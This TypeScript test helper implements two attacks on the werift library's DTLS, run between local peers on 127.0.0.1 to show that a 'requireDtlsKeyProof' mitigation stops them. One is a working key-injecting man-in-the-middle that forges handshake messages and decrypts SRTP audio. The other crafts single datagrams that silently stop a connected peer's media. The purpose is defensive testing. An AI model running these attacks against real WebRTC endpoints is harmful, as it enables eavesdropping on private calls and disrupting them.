/**
 * Two attacks on werift's DTLS, replayed against real werift peer
 * connections on 127.0.0.1 (found by a review, session 33), so that
 * dtls-attacks.test.ts can show that requireDtlsKeyProof stops them:
 * - a middle on the path that holds no certificate key passes the genuine
 *   handshake on and injects a second key exchange of its own each way; a
 *   werift that derives its keys from the injected copies, while the key
 *   check reads the first, lets the middle read and rewrite the media;
 * - one datagram (a plaintext alert, or a ClientHello werift rejects) sent
 *   from any address to a connected peer's port, which stopped its media
 *   while its connection still said "connected".
 */
import dgram from 'node:dgram';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import {
  CipherContext,
  HashAlgorithm,
  MediaStreamTrack,
  NamedCurveAlgorithm,
  Profiles,
  RTCCertificate,
  RTCPeerConnection,
  RtpHeader,
  RtpPacket,
  SignatureAlgorithm,
  SrtpSession,
  keyLength,
  saltLength,
} from 'werift';
import { onDtlsKeyRefused } from './dtls-key-proof.js';

// The attacker needs werift's TLS PRF, record cipher and ECDHE key pairs,
// which werift exports only from its CommonJS build: typed here by the part used.
const requireCjs = createRequire(import.meta.url);
const cipherDir = join(dirname(requireCjs.resolve('werift')), '../../dtls/src/cipher');
interface CipherHeader {
  readonly type: number;
  readonly version: number;
  readonly epoch: number;
  readonly sequenceNumber: number;
}
interface RecordCipher {
  init(masterSecret: Buffer, serverRandom: Buffer, clientRandom: Buffer): void;
  encrypt(writer: number, data: Buffer, header: CipherHeader): Buffer;
  decrypt(reader: number, data: Buffer, header: CipherHeader): Buffer;
}
interface KeyPair {
  readonly publicKey: Buffer;
  readonly privateKey: Buffer;
}
const prf = requireCjs(join(cipherDir, 'prf.js')) as {
  prfPreMasterSecret(publicKey: Buffer, privateKey: Buffer, curve: number): Buffer;
  prfExtendedMasterSecret(preMasterSecret: Buffer, handshakes: Buffer): Buffer;
  prfVerifyDataClient(masterSecret: Buffer, handshakes: Buffer): Buffer;
  exportKeyingMaterial(label: string, length: number, masterSecret: Buffer, localRandom: Buffer, remoteRandom: Buffer, isClient: boolean): Buffer;
};
const { createCipher } = requireCjs(join(cipherDir, 'create.js')) as { readonly createCipher: (suite: number) => RecordCipher };
const { generateKeyPair } = requireCjs(join(cipherDir, 'namedCurve.js')) as { readonly generateKeyPair: (curve: number) => KeyPair };

// ---- DTLS 1.2 on the wire (RFC 6347 4.1, 4.2.2) ----

const ALERT = 21;
const HANDSHAKE = 22;
const APPLICATION_DATA = 23;
const CLIENT_HELLO = 1;
const SERVER_HELLO = 2;
const HELLO_VERIFY_REQUEST = 3;
const CERTIFICATE = 11;
const SERVER_KEY_EXCHANGE = 12;
const SERVER_HELLO_DONE = 14;
const CERTIFICATE_VERIFY = 15;
const CLIENT_KEY_EXCHANGE = 16;
const FINISHED = 20;
const DTLS_1_2 = 0xfefd;
const ECDHE_ECDSA_AES_128_GCM_SHA256 = 49195;
const USE_SRTP = 14;
/** werift's SessionType: which side wrote a record. */
const CLIENT = 1;
const SERVER = 2;

interface DtlsRecord {
  readonly type: number;
  readonly version: number;
  readonly epoch: number;
  readonly seq: number;
  readonly body: Buffer;
}

function parseRecords(datagram: Buffer): DtlsRecord[] {
  const records: DtlsRecord[] = [];
  for (let at = 0; at + 13 <= datagram.length; ) {
    const end = at + 13 + datagram.readUInt16BE(at + 11);
    records.push({ type: datagram.readUInt8(at), version: datagram.readUInt16BE(at + 1), epoch: datagram.readUInt16BE(at + 3), seq: datagram.readUIntBE(at + 5, 6), body: datagram.subarray(at + 13, end) });
    at = end;
  }
  return records;
}

function serializeRecord(r: DtlsRecord): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt8(r.type, 0);
  header.writeUInt16BE(r.version, 1);
  header.writeUInt16BE(r.epoch, 3);
  header.writeUIntBE(r.seq, 5, 6);
  header.writeUInt16BE(r.body.length, 11);
  return Buffer.concat([header, r.body]);
}

interface Handshake {
  readonly type: number;
  readonly seq: number;
  readonly body: Buffer;
  /** Header and body, as the handshake transcript counts it. */
  readonly raw: Buffer;
}

/** Unfragmented handshake messages (werift sends none fragmented at these sizes). */
function parseHandshakes(fragment: Buffer): Handshake[] {
  const messages: Handshake[] = [];
  for (let at = 0; at + 12 <= fragment.length; ) {
    const end = at + 12 + fragment.readUIntBE(at + 9, 3);
    messages.push({ type: fragment.readUInt8(at), seq: fragment.readUInt16BE(at + 4), body: fragment.subarray(at + 12, end), raw: fragment.subarray(at, end) });
    at = end;
  }
  return messages;
}

function serializeHandshake(type: number, seq: number, body: Buffer): Buffer {
  const header = Buffer.alloc(12);
  header.writeUInt8(type, 0);
  header.writeUIntBE(body.length, 1, 3);
  header.writeUInt16BE(seq, 4);
  header.writeUIntBE(body.length, 9, 3);
  return Buffer.concat([header, body]);
}

/** The SRTP protection profile a ServerHello's use_srtp extension picks. */
function srtpProfileOf(serverHello: Buffer): number | undefined {
  let at = 35 + serverHello.readUInt8(34) + 3; // version, random, session id, cipher suite, compression
  const end = at + 2 + serverHello.readUInt16BE(at);
  for (at += 2; at + 4 <= end; at += 4 + serverHello.readUInt16BE(at + 2)) {
    if (serverHello.readUInt16BE(at) === USE_SRTP) return serverHello.readUInt16BE(at + 6);
  }
  return undefined;
}

type SrtpProfile = (typeof Profiles)[number];
const isSrtpProfile = (p: number | undefined): p is SrtpProfile => (Profiles as readonly (number | undefined)[]).includes(p);

/** RFC 7983: 128..191 is RTP or RTCP. */
const isSrtp = (datagram: Buffer): boolean => datagram.length > 1 && datagram.readUInt8(0) >= 128 && datagram.readUInt8(0) < 192;
const isRtcp = (datagram: Buffer): boolean => datagram.readUInt8(1) >= 192 && datagram.readUInt8(1) <= 223;

/** Encrypts and decrypts records of one DTLS session (werift's ECDHE-ECDSA AES-128-GCM suite). */
function recordCipher(masterSecret: Buffer, serverRandom: Buffer, clientRandom: Buffer): { decrypt(writer: number, r: DtlsRecord): Buffer; encrypt(writer: number, r: DtlsRecord, plain: Buffer): Buffer } {
  const cipher = createCipher(ECDHE_ECDSA_AES_128_GCM_SHA256);
  cipher.init(masterSecret, serverRandom, clientRandom);
  const header = (r: DtlsRecord): CipherHeader => ({ type: r.type, version: r.version, epoch: r.epoch, sequenceNumber: r.seq });
  return {
    decrypt: (writer, r) => cipher.decrypt(writer === CLIENT ? SERVER : CLIENT, r.body, header(r)),
    encrypt: (writer, r, plain) => serializeRecord({ ...r, body: cipher.encrypt(writer, plain, header(r)) }),
  };
}

// ---- the key-less middle ----

/** What the middle did and read. */
export interface MiddleStats {
  /** It sent the DTLS client a second ServerKeyExchange with its own ECDHE share. */
  injectedServerKeyExchange: boolean;
  /** It sent the DTLS server a second ClientKeyExchange with its own ECDHE share. */
  injectedClientKeyExchange: boolean;
  /** RTP packets it decrypted (and re-encrypted on), each way. */
  rtpClientToServer: number;
  rtpServerToClient: number;
  /** Encrypted records it could not decrypt: the attack failed. */
  undecryptable: number;
  errors: string[];
}

interface Middle {
  /** A datagram the DTLS client sent toward the server. */
  fromClient(datagram: Buffer): void;
  /** A datagram the DTLS server sent toward the client. */
  fromServer(datagram: Buffer): void;
  readonly stats: MiddleStats;
}

/**
 * A middle between an honest werift DTLS client and server that holds no
 * certificate key: it passes the genuine handshake on, and after the genuine
 * ServerKeyExchange and ClientKeyExchange injects one of its own (an ECDHE
 * share it holds the private key of, the ServerKeyExchange with a junk
 * signature). Where werift keys the session from the injected copies, the
 * middle shares one session with each side, re-encrypts the Finished and
 * every record and SRTP packet, and so reads the media.
 */
function keyInjectingMiddle(toClient: (datagram: Buffer) => void, toServer: (datagram: Buffer) => void): Middle {
  const stats: MiddleStats = { injectedServerKeyExchange: false, injectedClientKeyExchange: false, rtpClientToServer: 0, rtpServerToClient: 0, undecryptable: 0, errors: [] };
  let clientHello: Buffer | undefined;
  let clientRandom: Buffer | undefined;
  let serverRandom: Buffer | undefined;
  let profile: number | undefined;
  let curve: number | undefined;
  let serverShare: Buffer | undefined;
  let clientCertificate: Buffer | undefined;
  let certificateVerify: Buffer | undefined;
  /** The share the middle gave the client in place of the server's. */
  let towardClient: KeyPair | undefined;
  /** Server flight 4 (ServerHello to ServerHelloDone), by message seq, for the transcript. */
  const flight4 = new Map<number, Buffer>();
  const serverTypesSeen = new Set<number>();
  let session: { transcript: Buffer; withClient: ReturnType<typeof recordCipher>; withServer: ReturnType<typeof recordCipher>; masterClient: Buffer; masterServer: Buffer } | undefined;
  let srtp: { withClient: SrtpSession; withServer: SrtpSession } | undefined;

  /** Keys a session with each side when the client's key exchange arrives; its genuine share goes on, then the middle's. */
  function keySessions(exchange: Handshake): Buffer | undefined {
    if (clientHello === undefined || clientCertificate === undefined || towardClient === undefined || serverShare === undefined || curve === undefined || serverRandom === undefined || clientRandom === undefined) return undefined;
    const clientShare = exchange.body.subarray(1, 1 + exchange.body.readUInt8(0));
    const transcript = Buffer.concat([clientHello, ...[...flight4.entries()].sort(([a], [b]) => a - b).map(([, raw]) => raw), clientCertificate, exchange.raw]);
    const towardServer = generateKeyPair(curve);
    const masterClient = prf.prfExtendedMasterSecret(prf.prfPreMasterSecret(clientShare, towardClient.privateKey, curve), transcript);
    const masterServer = prf.prfExtendedMasterSecret(prf.prfPreMasterSecret(serverShare, towardServer.privateKey, curve), transcript);
    session = { transcript, masterClient, masterServer, withClient: recordCipher(masterClient, serverRandom, clientRandom), withServer: recordCipher(masterServer, serverRandom, clientRandom) };
    return serializeHandshake(CLIENT_KEY_EXCHANGE, exchange.seq, Buffer.concat([Buffer.from([towardServer.publicKey.length]), towardServer.publicKey]));
  }

  function srtpSessions(): typeof srtp {
    if (srtp !== undefined || session === undefined || clientRandom === undefined || serverRandom === undefined || !isSrtpProfile(profile)) return srtp;
    const kl = keyLength(profile);
    const sl = saltLength(profile);
    const cr = clientRandom;
    const sr = serverRandom;
    const split = (master: Buffer): { clientKey: Buffer; serverKey: Buffer; clientSalt: Buffer; serverSalt: Buffer } => {
      const km = prf.exportKeyingMaterial('EXTRACTOR-dtls_srtp', 2 * kl + 2 * sl, master, cr, sr, true);
      return { clientKey: km.subarray(0, kl), serverKey: km.subarray(kl, 2 * kl), clientSalt: km.subarray(2 * kl, 2 * kl + sl), serverSalt: km.subarray(2 * kl + sl) };
    };
    const c = split(session.masterClient);
    const s = split(session.masterServer);
    // Toward the client the middle is the server; toward the server, the client.
    srtp = {
      withClient: new SrtpSession({ profile, keys: { localMasterKey: c.serverKey, localMasterSalt: c.serverSalt, remoteMasterKey: c.clientKey, remoteMasterSalt: c.clientSalt } }),
      withServer: new SrtpSession({ profile, keys: { localMasterKey: s.clientKey, localMasterSalt: s.clientSalt, remoteMasterKey: s.serverKey, remoteMasterSalt: s.serverSalt } }),
    };
    return srtp;
  }

  /** What the middle cannot decrypt is counted, not relayed. */
  function opened<T>(decrypt: () => T): T | undefined {
    try {
      return decrypt();
    } catch {
      stats.undecryptable++;
      return undefined;
    }
  }

  /** RTP is read and re-encrypted on; RTCP is dropped (not needed to read the media). */
  function relaySrtp(datagram: Buffer, fromClientSide: boolean): void {
    const s = srtpSessions();
    if (s === undefined || isRtcp(datagram)) return;
    const rtp = opened(() => RtpPacket.deSerialize((fromClientSide ? s.withClient : s.withServer).decrypt(datagram)));
    if (rtp === undefined) return;
    if (fromClientSide) stats.rtpClientToServer++;
    else stats.rtpServerToClient++;
    if (fromClientSide) toServer(s.withServer.encrypt(rtp.payload, rtp.header));
    else toClient(s.withClient.encrypt(rtp.payload, rtp.header));
  }

  function fromClient(datagram: Buffer): void {
    if (isSrtp(datagram)) {
      relaySrtp(datagram, true);
      return;
    }
    for (const r of parseRecords(datagram)) {
      if (r.type === HANDSHAKE && r.epoch === 0) {
        let injected: Buffer | undefined;
        for (const h of parseHandshakes(r.body)) {
          // The last ClientHello (the one with the cookie) opens the transcript.
          if (h.type === CLIENT_HELLO) {
            clientHello = Buffer.from(h.raw);
            clientRandom = Buffer.from(h.body.subarray(2, 34));
          }
          if (h.type === CERTIFICATE) clientCertificate = Buffer.from(h.raw);
          if (h.type === CERTIFICATE_VERIFY) certificateVerify = Buffer.from(h.raw);
          if (h.type === CLIENT_KEY_EXCHANGE && session === undefined) injected = keySessions(h);
        }
        toServer(serializeRecord(r));
        if (injected !== undefined) {
          toServer(serializeRecord({ ...r, seq: r.seq + 1000, body: injected }));
          stats.injectedClientKeyExchange = true;
        }
      } else if (r.epoch > 0 && (r.type === HANDSHAKE || r.type === APPLICATION_DATA) && session !== undefined) {
        const { withClient } = session;
        const plain = opened(() => withClient.decrypt(CLIENT, r));
        if (plain === undefined) continue;
        const [finished] = r.type === HANDSHAKE ? parseHandshakes(plain) : [];
        if (finished !== undefined && certificateVerify !== undefined) {
          // The server checks the client's Finished: the middle computes it for its own session with the server.
          const verifyData = prf.prfVerifyDataClient(session.masterServer, Buffer.concat([session.transcript, certificateVerify]));
          toServer(session.withServer.encrypt(CLIENT, r, serializeHandshake(FINISHED, finished.seq, verifyData)));
        } else {
          toServer(session.withServer.encrypt(CLIENT, r, plain));
        }
      } else {
        toServer(serializeRecord(r));
      }
    }
  }

  function fromServer(datagram: Buffer): void {
    if (isSrtp(datagram)) {
      relaySrtp(datagram, false);
      return;
    }
    for (const r of parseRecords(datagram)) {
      if (r.type === HANDSHAKE && r.epoch === 0) {
        const messages = parseHandshakes(r.body);
        // A retransmitted flight 4 would make the client key from the server's share again: dropped.
        if (messages.some((h) => h.type !== HELLO_VERIFY_REQUEST && serverTypesSeen.has(h.type))) continue;
        let injected: Buffer | undefined;
        for (const h of messages) {
          serverTypesSeen.add(h.type);
          if (h.type >= SERVER_HELLO && h.type <= SERVER_HELLO_DONE && h.type !== HELLO_VERIFY_REQUEST) flight4.set(h.seq, Buffer.from(h.raw));
          if (h.type === SERVER_HELLO) {
            serverRandom = Buffer.from(h.body.subarray(2, 34));
            profile = srtpProfileOf(h.body);
          }
          if (h.type === SERVER_KEY_EXCHANGE) {
            curve = h.body.readUInt16BE(1);
            serverShare = Buffer.from(h.body.subarray(4, 4 + h.body.readUInt8(3)));
            towardClient = generateKeyPair(curve);
            const junkSignature = Buffer.concat([Buffer.from([4, 3, 0, 8]), Buffer.alloc(8, 0xee)]);
            injected = serializeHandshake(SERVER_KEY_EXCHANGE, h.seq, Buffer.concat([h.body.subarray(0, 3), Buffer.from([towardClient.publicKey.length]), towardClient.publicKey, junkSignature]));
          }
        }
        toClient(serializeRecord(r));
        if (injected !== undefined) {
          toClient(serializeRecord({ ...r, seq: r.seq + 1000, body: injected }));
          stats.injectedServerKeyExchange = true;
        }
      } else if (r.epoch > 0 && (r.type === HANDSHAKE || r.type === APPLICATION_DATA) && session !== undefined) {
        const { withServer } = session;
        const plain = opened(() => withServer.decrypt(SERVER, r));
        if (plain === undefined) continue;
        const [finished] = r.type === HANDSHAKE ? parseHandshakes(plain) : [];
        // werift's client does not check the server's Finished: any 12 bytes do.
        toClient(session.withClient.encrypt(SERVER, r, finished === undefined ? plain : serializeHandshake(FINISHED, finished.seq, Buffer.alloc(12))));
      } else {
        toClient(serializeRecord(r));
      }
    }
  }

  /** A bug in the middle must show in the figures, not crash the test process from a socket callback. */
  const guarded = (relay: (datagram: Buffer) => void) => (datagram: Buffer): void => {
    try {
      relay(datagram);
    } catch (error) {
      stats.errors.push(error instanceof Error ? error.message : String(error));
    }
  };
  return { fromClient: guarded(fromClient), fromServer: guarded(fromServer), stats };
}

// ---- two werift peers on loopback ----

const LOOPBACK = '127.0.0.1';
/** Loopback only: no STUN server, no other interface. */
const PEER_CONFIG = { iceServers: [], iceUseIpv6: false, iceInterfaceAddresses: { udp4: LOOPBACK } };

async function ecdsaCertificate(): Promise<RTCCertificate> {
  const { certPem, keyPem, signatureHash } = await CipherContext.createSelfSignedCertificateWithKey({ signature: SignatureAlgorithm.ecdsa_3, hash: HashAlgorithm.sha256_4 }, NamedCurveAlgorithm.secp256r1_23);
  return new RTCCertificate(keyPem, certPem, signatureHash);
}

/** An offerer (werift makes it the DTLS server) and an answerer (the DTLS client), each sending one audio track. */
interface PeerPair {
  readonly offerer: RTCPeerConnection;
  readonly answerer: RTCPeerConnection;
  /** RTP each has received. */
  readonly received: { offerer: number; answerer: number };
  /** Sends one RTP packet each way. */
  readonly send: (seq: number) => void;
  close(): Promise<void>;
}

async function peerPair(): Promise<PeerPair> {
  const [offererCertificate, answererCertificate] = await Promise.all([ecdsaCertificate(), ecdsaCertificate()]);
  const offerer = new RTCPeerConnection({ ...PEER_CONFIG, certificates: [offererCertificate] });
  const answerer = new RTCPeerConnection({ ...PEER_CONFIG, certificates: [answererCertificate] });
  const fromOfferer = new MediaStreamTrack({ kind: 'audio' });
  const fromAnswerer = new MediaStreamTrack({ kind: 'audio' });
  const received = { offerer: 0, answerer: 0 };
  offerer.addTransceiver(fromOfferer, { direction: 'sendrecv' });
  answerer.onTransceiverAdded.subscribe((t) => {
    void t.sender.replaceTrack(fromAnswerer);
    t.setDirection('sendrecv');
  });
  offerer.onTrack.subscribe((t) => t.onReceiveRtp.subscribe(() => { received.offerer++; }));
  answerer.onTrack.subscribe((t) => t.onReceiveRtp.subscribe(() => { received.answerer++; }));
  const rtp = (seq: number, ssrc: number, text: string): RtpPacket => new RtpPacket(new RtpHeader({ payloadType: 111, sequenceNumber: seq & 0xffff, timestamp: (seq * 960) >>> 0, ssrc }), Buffer.from(text));
  return {
    offerer,
    answerer,
    received,
    send: (seq) => {
      fromOfferer.writeRtp(rtp(seq, 2, `offerer secret audio #${seq}`));
      fromAnswerer.writeRtp(rtp(seq, 1, `answerer secret audio #${seq}`));
    },
    close: async () => {
      await Promise.allSettled([offerer.close(), answerer.close()]);
    },
  };
}

/** The port of an SDP's first host candidate. */
function candidatePort(sdp: string | undefined): number {
  const port = /^a=candidate:\S+ 1 udp \d+ \S+ (\d+) typ host/m.exec(sdp ?? '')?.[1];
  if (port === undefined) throw new Error('werift put no host candidate in its SDP');
  return Number(port);
}

/** Points every candidate of an SDP at 127.0.0.1 (on `port`, if given). */
function candidatesAt(sdp: string, port?: number): string {
  return port === undefined ? sdp.replace(/^(a=candidate:\S+ \d+ udp \d+ )\S+/gm, `$1${LOOPBACK}`) : sdp.replace(/^(a=candidate:\S+ \d+ udp \d+ )\S+ \d+/gm, `$1${LOOPBACK} ${port}`);
}

/** Offer and answer, each side seeing the other's candidates on 127.0.0.1. */
async function negotiate({ offerer, answerer }: PeerPair): Promise<void> {
  await offerer.setLocalDescription(await offerer.createOffer());
  await answerer.setRemoteDescription({ type: 'offer', sdp: candidatesAt(offerer.localDescription?.sdp ?? '') });
  await answerer.setLocalDescription(await answerer.createAnswer());
  await offerer.setRemoteDescription({ type: 'answer', sdp: candidatesAt(answerer.localDescription?.sdp ?? '') });
}

/** Polls `done` until it holds or `ms` pass; says whether it held. */
async function until(done: () => boolean, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  while (!done() && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 50));
  return done();
}

const connected = (pc: RTCPeerConnection): boolean => pc.connectionState === 'connected';
const dtlsState = (pc: RTCPeerConnection): string => pc.dtlsTransports[0]?.state ?? 'none';

async function udpSocket(): Promise<dgram.Socket> {
  const socket = dgram.createSocket('udp4');
  await new Promise<void>((resolve) => socket.bind(0, LOOPBACK, resolve));
  return socket;
}

/** How a peer ended. */
export interface PeerFigures {
  readonly connectionState: string;
  readonly dtlsState: string;
  readonly rtpReceived: number;
}

/** What the key-injecting middle achieved between two honest peers. */
export interface MiddleAttackFigures {
  /** The DTLS server. */
  readonly offerer: PeerFigures;
  /** The DTLS client. */
  readonly answerer: PeerFigures;
  readonly middle: MiddleStats;
  /** Reasons onDtlsKeyRefused gave. */
  readonly refusals: string[];
}

/**
 * Connects two honest werift peers, each with its own certificate and key,
 * through a key-less UDP middle: their SDP is passed on unchanged but for the
 * candidates, which point at the middle (as a middle on the signalling or the
 * network path would arrange). The middle relays STUN verbatim and runs
 * keyInjectingMiddle on DTLS and SRTP. Once both connect (or a transport
 * fails, or the middle finds it cannot decrypt, or `connectMs` pass), RTP is
 * sent both ways for `pumpMs`.
 */
export async function connectThroughKeyInjectingMiddle({ connectMs = 20_000, pumpMs = 1500 } = {}): Promise<MiddleAttackFigures> {
  const refusals: string[] = [];
  const stopListening = onDtlsKeyRefused((reason) => refusals.push(reason));
  const sockets: dgram.Socket[] = [];
  let pair: PeerPair | undefined;
  let pump: ReturnType<typeof setInterval> | undefined;
  try {
    pair = await peerPair();
    const { offerer, answerer } = pair;
    const towardOfferer = await udpSocket();
    sockets.push(towardOfferer);
    const towardAnswerer = await udpSocket();
    sockets.push(towardAnswerer);
    const ports = { offerer: 0, answerer: 0 };
    const middle = keyInjectingMiddle(
      (d) => { towardAnswerer.send(d, ports.answerer, LOOPBACK); },
      (d) => { towardOfferer.send(d, ports.offerer, LOOPBACK); },
    );
    const isStun = (d: Buffer): boolean => d.length > 0 && d.readUInt8(0) < 4;
    towardAnswerer.on('message', (d, from) => {
      ports.answerer = from.port;
      if (isStun(d)) towardOfferer.send(d, ports.offerer, LOOPBACK);
      else middle.fromClient(d);
    });
    towardOfferer.on('message', (d, from) => {
      ports.offerer = from.port;
      if (isStun(d)) towardAnswerer.send(d, ports.answerer, LOOPBACK);
      else middle.fromServer(d);
    });
    await offerer.setLocalDescription(await offerer.createOffer());
    ports.offerer = candidatePort(offerer.localDescription?.sdp);
    await answerer.setRemoteDescription({ type: 'offer', sdp: candidatesAt(offerer.localDescription?.sdp ?? '', towardAnswerer.address().port) });
    await answerer.setLocalDescription(await answerer.createAnswer());
    ports.answerer = candidatePort(answerer.localDescription?.sdp);
    await offerer.setRemoteDescription({ type: 'answer', sdp: candidatesAt(answerer.localDescription?.sdp ?? '', towardOfferer.address().port) });
    await until(() => (connected(offerer) && connected(answerer)) || dtlsState(offerer) === 'failed' || dtlsState(answerer) === 'failed' || middle.stats.undecryptable > 0, connectMs);
    let seq = 0;
    const { send } = pair;
    pump = setInterval(() => { send(++seq); }, 20);
    await new Promise((resolve) => setTimeout(resolve, pumpMs));
    clearInterval(pump);
    // Packets still on their way.
    await new Promise((resolve) => setTimeout(resolve, 200));
    const figures = (pc: RTCPeerConnection, rtpReceived: number): PeerFigures => ({ connectionState: pc.connectionState, dtlsState: dtlsState(pc), rtpReceived });
    return { offerer: figures(offerer, pair.received.offerer), answerer: figures(answerer, pair.received.answerer), middle: { ...middle.stats, errors: [...middle.stats.errors] }, refusals };
  } finally {
    clearInterval(pump);
    stopListening();
    await pair?.close();
    for (const s of sockets) s.close();
  }
}

// ---- one blind datagram ----

/**
 * One datagram a stranger can send knowing only a peer's port (from its SDP
 * candidate): a plaintext warning alert (close_notify); a cookie-less
 * ClientHello offering only an SRTP profile werift does not support
 * (SRTP_AES128_CM_HMAC_SHA1_32), which werift's server fails on (its client
 * ignores a ClientHello); or a Certificate message that does not parse,
 * which werift's client fails on.
 */
export type BlindDatagram = 'plaintext-alert' | 'rejected-client-hello' | 'rejected-certificate';

function blindDatagram(kind: BlindDatagram): Buffer {
  if (kind === 'plaintext-alert') return serializeRecord({ type: ALERT, version: DTLS_1_2, epoch: 0, seq: 9, body: Buffer.from([1, 0]) });
  // A 9-byte certificate list whose one certificate claims 6 bytes and has 3.
  if (kind === 'rejected-certificate') return serializeRecord({ type: HANDSHAKE, version: DTLS_1_2, epoch: 0, seq: 7, body: serializeHandshake(CERTIFICATE, 1, Buffer.from([0, 0, 9, 0, 0, 6, 1, 2, 3])) });
  const extension = (type: number, data: number[]): Buffer => {
    const e = Buffer.alloc(4);
    e.writeUInt16BE(type, 0);
    e.writeUInt16BE(data.length, 2);
    return Buffer.concat([e, Buffer.from(data)]);
  };
  const extensions = Buffer.concat([
    extension(USE_SRTP, [0, 2, 0, 2, 0]), // SRTP_AES128_CM_HMAC_SHA1_32 only, no MKI
    extension(10, [0, 4, 0, 29, 0, 23]), // supported groups: x25519, secp256r1
    extension(13, [0, 4, 4, 1, 4, 3]), // signature algorithms: rsa and ecdsa with sha256
    extension(23, []), // extended master secret
    extension(0xff01, [0]), // renegotiation info
  ]);
  const extensionsLength = Buffer.alloc(2);
  extensionsLength.writeUInt16BE(extensions.length, 0);
  const body = Buffer.concat([
    Buffer.from([0xfe, 0xfd]),
    Buffer.alloc(32, 0x5a), // random
    Buffer.from([0, 0]), // no session id, no cookie
    Buffer.from([0, 4, 0xc0, 0x2b, 0xc0, 0x2f]), // ECDHE-ECDSA and ECDHE-RSA AES-128-GCM
    Buffer.from([1, 0]), // no compression
    extensionsLength,
    extensions,
  ]);
  return serializeRecord({ type: HANDSHAKE, version: DTLS_1_2, epoch: 0, seq: 1, body: serializeHandshake(CLIENT_HELLO, 0, body) });
}

/** RTP counts around the blind datagram. */
export interface BlindDatagramFigures {
  /** The target's DTLS transport and connection after the datagram. */
  readonly targetDtlsState: string;
  readonly targetConnectionState: string;
  /** RTP each side sent, and received, after the datagram. */
  readonly sentEachWayAfter: number;
  readonly receivedFromTargetAfter: number;
  readonly receivedByTargetAfter: number;
  /** RTP received from, and by, the target before the datagram. */
  readonly receivedFromTargetBefore: number;
  readonly receivedByTargetBefore: number;
}

/**
 * Connects two werift peers directly on loopback, starts RTP both ways, and
 * once each has received `warmUp` packets sends one `kind` datagram from an
 * unrelated socket (never part of ICE) to the port of `target` (the DTLS
 * server: the offerer; the DTLS client: the answerer). Then sends `after`
 * more packets each way and counts what arrived: counts of packets sent,
 * not time, so that a loaded machine changes only how long it takes.
 */
export async function sendBlindDatagram(kind: BlindDatagram, target: 'dtls-server' | 'dtls-client', { warmUp = 20, after = 50, connectMs = 20_000 } = {}): Promise<BlindDatagramFigures> {
  let pair: PeerPair | undefined;
  let stranger: dgram.Socket | undefined;
  let pump: ReturnType<typeof setInterval> | undefined;
  try {
    pair = await peerPair();
    const { offerer, answerer, received } = pair;
    await negotiate(pair);
    if (!(await until(() => connected(offerer) && connected(answerer), connectMs))) throw new Error(`the honest peers did not connect: offerer ${offerer.connectionState}, answerer ${answerer.connectionState}`);
    const victim = target === 'dtls-server' ? offerer : answerer;
    const fromVictim = (): number => (target === 'dtls-server' ? received.answerer : received.offerer);
    const byVictim = (): number => (target === 'dtls-server' ? received.offerer : received.answerer);
    const socket = await udpSocket();
    stranger = socket;
    const datagram = blindDatagram(kind);
    const port = candidatePort(victim.localDescription?.sdp);
    let seq = 0;
    const { send } = pair;
    pump = setInterval(() => { send(++seq); }, 20);
    if (!(await until(() => received.offerer >= warmUp && received.answerer >= warmUp, connectMs))) throw new Error(`RTP did not flow before the datagram: offerer received ${received.offerer}, answerer ${received.answerer}`);
    const before = { from: fromVictim(), by: byVictim() };
    await new Promise<void>((resolve, reject) => {
      socket.send(datagram, port, LOOPBACK, (error) => { if (error) reject(error); else resolve(); });
    });
    const sentBefore = seq;
    await until(() => seq >= sentBefore + after, connectMs);
    clearInterval(pump);
    const sentAfter = seq - sentBefore;
    // Packets still on their way.
    await until(() => fromVictim() - before.from >= sentAfter && byVictim() - before.by >= sentAfter, 1000);
    return {
      targetDtlsState: dtlsState(victim),
      targetConnectionState: victim.connectionState,
      sentEachWayAfter: sentAfter,
      receivedFromTargetAfter: fromVictim() - before.from,
      receivedByTargetAfter: byVictim() - before.by,
      receivedFromTargetBefore: before.from,
      receivedByTargetBefore: before.by,
    };
  } finally {
    clearInterval(pump);
    stranger?.close();
    await pair?.close();
  }
}
